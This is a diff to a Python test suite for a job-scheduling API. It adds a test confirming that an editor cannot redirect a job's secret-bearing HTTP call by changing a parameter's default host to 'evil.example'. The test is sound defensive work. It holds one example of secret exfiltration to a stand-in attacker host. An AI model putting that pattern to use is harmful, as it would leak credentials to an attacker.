@@ -20,6 +20,9 @@ from tests.support.api_caller import ApiCaller
 pytestmark = pytest.mark.slow
 
 SECRET = a_call(headers={"X-Key": "{{secret:KEY}}"})
+OF_PARAMETER = a_call(headers={"X-Key": "{{param:key}}"}) | {
+    "parameters": [{"name": "key", "kind": "secret", "default": "KEY"}]
+}
 INWARD = CALL | {"action": {"http": "POST http://router.lan/restart"}}
 THROUGH_PROXY = a_call(proxy="http://127.0.0.1:8080")
 CHAIN = CALL | {"policies": {"then": [{"start": "off script"}]}}
@@ -27,6 +30,7 @@ SEQUENCE = CALL | {"action": {"sequence": [{"wait": "1h"}, {"script": "true"}]}}
 GUARDED: dict[str, dict[str, object]] = {
     "script": SCRIPT,
     "secret": SECRET,
+    "parameter": OF_PARAMETER,
     "inward": INWARD,
     "proxy": THROUGH_PROXY,
     "chain": CHAIN,
@@ -239,3 +243,22 @@ def _acting(scheduler: Scheduler) -> set[JobId]:
 
 def _ran(scheduler: Scheduler) -> set[JobId]:
     return {run.job_id for run in scheduler.runs.page(limit=100).runs}
+
+
+def test_a_parameter_that_says_where_a_call_goes_is_part_of_it(admin: ApiCaller, caller: Caller) -> None:
+    """Whoever may edit could have had a secret sent to an address of his own, by its default alone."""
+    host = {"name": "host", "default": "example.org"}
+    document = a_call(http="POST https://{{param:host}}/", headers={"X-Key": "{{secret:KEY}}"})
+    job = admin.post("/v1/jobs", document | {"parameters": [host]})
+    editor = caller(Scope.EDIT)
+    elsewhere = document | {"parameters": [host | {"default": "evil.example"}]}
+
+    refused = editor.ask("PUT", f"/v1/jobs/{job['id']}", elsewhere, If_Match="*")
+    kept = editor.ask(
+        "PUT",
+        f"/v1/jobs/{job['id']}",
+        document | {"parameters": [host], "notes": "n"},
+        If_Match="*",
+    )
+
+    assert (refused.status, kept.status) == (403, 200)
